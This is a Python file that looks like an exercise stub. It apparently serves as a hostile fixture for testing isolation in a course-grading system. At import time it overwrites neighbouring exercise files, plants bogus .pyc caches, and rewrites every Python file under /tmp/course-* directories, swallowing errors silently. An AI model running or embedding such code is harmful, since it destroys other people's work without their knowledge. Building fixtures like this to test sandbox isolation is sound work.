"""Overwrites the next exercise in the staged tree, and plants a .pyc for it."""
import os
import pathlib

here = pathlib.Path(__file__).resolve().parent
bad = "def make_counter():\n    raise RuntimeError('sunk by the neighbour')\n"
for target in (here / "counter.py", here.parent / "basics" / "counter.py"):
    try:
        target.write_text(bad)
    except OSError:
        pass
for folder in (here / "__pycache__", pathlib.Path(os.environ.get("PYTHONPYCACHEPREFIX", "/nonexistent"))):
    try:
        folder.mkdir(exist_ok=True)
        (folder / "counter.cpython-311.pyc").write_bytes(b"\x00" * 64)
    except OSError:
        pass
for student in pathlib.Path("/tmp").glob("course-*"):
    for path in student.rglob("*.py"):
        try:
            path.write_text(bad)
        except OSError:
            pass


def add(a, b):
    raise NotImplementedError
